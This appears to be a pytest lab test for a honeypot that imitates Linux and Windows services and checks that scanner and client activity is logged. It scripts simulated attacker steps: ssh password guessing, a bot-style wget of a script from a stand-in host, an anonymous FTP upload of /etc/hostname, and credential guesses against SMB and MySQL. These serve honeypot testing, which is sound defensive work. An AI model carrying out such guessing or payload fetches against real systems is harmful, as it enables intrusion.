"""The emulated services on the wire: nmap -sV and real clients against virtual hosts.

A sensor in the lab serves one Linux and one Windows virtual host with every service; the
attacker namespace runs nmap's version detection and the ordinary clients (ssh, ftp, curl,
mariadb, snmpget), and what they did must be in the event log.
"""

from __future__ import annotations

import subprocess
import time
import xml.etree.ElementTree as ET

import pytest

from dynapot.lab.sensor import running_sensor

pytestmark = pytest.mark.lab

LINUX, WINDOWS = "198.18.0.70", "198.18.0.71"
CONFIG = f"""
create linux
set linux personality "Linux 5.4"
set linux default tcp action reset
add linux tcp port 21 "ftp vsftpd|3.0.5"
add linux tcp port 22 "ssh OpenSSH|8.9p1 Ubuntu 3ubuntu0.10"
add linux tcp port 23 "telnet Linux telnetd"
add linux tcp port 25 "smtp Postfix smtpd"
add linux tcp port 80 "http Apache httpd|2.4.52"
add linux tcp port 3306 "mysql MySQL|8.0.35-0ubuntu0.22.04.1"
add linux udp port 161 "snmp"
bind {LINUX} linux

create windows
set windows personality "Microsoft Windows 7 SP1"
set windows default tcp action reset
add windows tcp port 21 "ftp Microsoft ftpd"
add windows tcp port 25 "smtp"
add windows tcp port 80 "http Microsoft IIS httpd|7.5"
add windows tcp port 139 "smb"
add windows tcp port 445 "smb"
add windows tcp port 3389 "rdp"
bind {WINDOWS} windows
"""

EXPECTED = {
    LINUX: {
        21: "vsftpd",
        22: "OpenSSH",
        23: "Linux telnetd",
        25: "Postfix smtpd",
        80: "Apache httpd",
        3306: "MySQL",
    },
    WINDOWS: {
        21: "Microsoft ftpd",
        25: "Microsoft ESMTP",
        80: "Microsoft IIS httpd",
        139: "Microsoft Windows netbios-ssn",
        445: "Microsoft Windows 7 - 10 microsoft-ds",
        3389: "Microsoft Terminal Service",
    },
}


def recorded(sensor, kind: str, predicate, timeout: float = 10.0) -> list[dict]:
    """The events of `kind` that satisfy `predicate`, waiting for the sensor's writer to store them."""
    deadline = time.monotonic() + timeout
    while True:
        events = [e for e in sensor.events(kind) if predicate(e)]
        if events or time.monotonic() > deadline:
            return events
        time.sleep(0.2)


def attacker(lab, *argv: str, timeout: float = 120, **kwargs) -> subprocess.CompletedProcess[str]:
    return lab.exec(lab.attacker, list(argv), timeout=timeout, **kwargs)


@pytest.fixture(scope="module")
def sensor(lab, tmp_path_factory):
    workdir = tmp_path_factory.mktemp("services")
    settings = workdir / "dynapot.toml"
    settings.write_text("[services]\nftp_anonymous = true\n")  # the upload test logs in anonymously
    with running_sensor(lab, CONFIG, workdir, extra_args=("--settings", str(settings))) as running:
        yield running


def test_nmap_names_every_service_as_the_product_it_imitates(lab, sensor):
    for host, expected in EXPECTED.items():
        ports = ",".join(map(str, expected))
        result = attacker(lab, "nmap", "-n", "-Pn", "-sV", "-p", ports, "-oX", "-", host, timeout=300)
        assert result.returncode == 0, result.stderr
        found = {
            int(port.get("portid")): (port.find("service").get("product") or "")
            for port in ET.fromstring(result.stdout).iter("port")
            if port.find("service") is not None
        }
        for port, product in expected.items():
            assert found.get(port, "").startswith(product), (host, port, found)
    version = {
        int(p.get("portid")): p.find("service").get("version")
        for p in ET.fromstring(
            attacker(lab, "nmap", "-n", "-Pn", "-sV", "-p", "22,80", "-oX", "-", LINUX, timeout=300).stdout
        ).iter("port")
    }
    assert version[22] == "8.9p1 Ubuntu 3ubuntu0.10" and version[80] == "2.4.52"


def test_ssh_password_guesses_are_recorded_and_a_weak_one_gets_a_shell(lab, sensor):
    ssh = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=10"]
    ssh += ["-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1"]
    wrong = attacker(lab, "sshpass", "-p", "not-this-one", "ssh", *ssh, f"root@{LINUX}", "id")
    assert wrong.returncode != 0
    right = attacker(lab, "sshpass", "-p", "123456", "ssh", *ssh, f"root@{LINUX}", "uname -s; whoami")
    assert right.returncode == 0, right.stderr
    assert right.stdout.split() == ["Linux", "root"]
    assert recorded(sensor, "login", lambda e: (e["detail"], e["dst_ip"]) == ("root:not-this-one", LINUX))
    assert recorded(sensor, "login", lambda e: (e["detail"], e["dst_ip"]) == ("root:123456", LINUX))
    assert recorded(sensor, "command", lambda e: "uname -s" in (e["detail"] or ""))
    # what a bot fetches is stored as a download (never fetched: the fake wget fails as a firewalled host's)
    fetch = attacker(
        lab, "sshpass", "-p", "123456", "ssh", *ssh, f"root@{LINUX}", "wget http://198.18.0.99/x.sh"
    )
    assert "Connecting to 198.18.0.99:80... failed: Connection refused." in fetch.stdout
    assert recorded(
        sensor, "download", lambda e: (e["detail"], e["dst_ip"]) == ("http://198.18.0.99/x.sh", LINUX)
    )


def test_an_ftp_client_lists_and_uploads_in_passive_mode(lab, sensor):
    script = "user anonymous guest@\nls\nput /etc/hostname dropped.txt\nquit\n"
    result = attacker(lab, "ftp", "-n", "-p", "-v", LINUX, input=script)
    assert "226" in result.stdout, result.stdout + result.stderr
    assert recorded(sensor, "upload", lambda e: "dropped.txt" in (e["detail"] or ""))


def test_curl_sees_the_imitated_web_server(lab, sensor):
    linux = attacker(lab, "curl", "-s", "-i", "--max-time", "10", f"http://{LINUX}/")
    windows = attacker(lab, "curl", "-s", "-i", "--max-time", "10", f"http://{WINDOWS}/")
    assert "Server: Apache/2.4.52 (Ubuntu)" in linux.stdout
    assert "Server: Microsoft-IIS/7.5" in windows.stdout
    assert recorded(sensor, "request", lambda e: e["detail"] == "GET /")


def test_the_mysql_client_is_refused_and_its_login_recorded(lab, sensor):
    result = attacker(
        lab, "mariadb", "-h", LINUX, "-u", "root", "-psecret", "--connect-timeout=10", "-e", "select 1"
    )
    assert "ERROR 1045 (28000)" in result.stderr
    assert recorded(sensor, "login", lambda e: e["dst_port"] == 3306)


def test_snmp_public_answers_with_an_os_fitting_description(lab, sensor):
    result = attacker(
        lab, "snmpget", "-v2c", "-c", "public", "-t", "2", "-r", "1", LINUX, "1.3.6.1.2.1.1.1.0"
    )
    assert result.returncode == 0 and "Linux" in result.stdout, result.stdout + result.stderr
    silent = attacker(lab, "snmpget", "-v2c", "-c", "guess", "-t", "1", "-r", "0", LINUX, "1.3.6.1.2.1.1.1.0")
    assert silent.returncode != 0  # a wrong community gets no answer, as from a real agent
    assert recorded(sensor, "login", lambda e: e["dst_port"] == 161)


def test_smb_os_discovery_reports_the_virtual_windows_version(lab, sensor):
    result = attacker(
        lab, "nmap", "-n", "-Pn", "-p", "445", "--script", "smb-os-discovery", WINDOWS, timeout=300
    )
    assert result.returncode == 0, result.stderr
    assert "OS: Windows 7 " in result.stdout and "7601 Service Pack 1" in result.stdout, result.stdout
    assert "Computer name:" in result.stdout and "System time:" in result.stdout
    listing = attacker(lab, "smbclient", "-L", f"//{WINDOWS}", "-U", "admin%Winter2026!", "-m", "SMB3")
    assert "NT_STATUS_LOGON_FAILURE" in listing.stdout + listing.stderr
    assert recorded(sensor, "login", lambda e: e["dst_port"] == 445 and "admin" in (e["detail"] or ""))
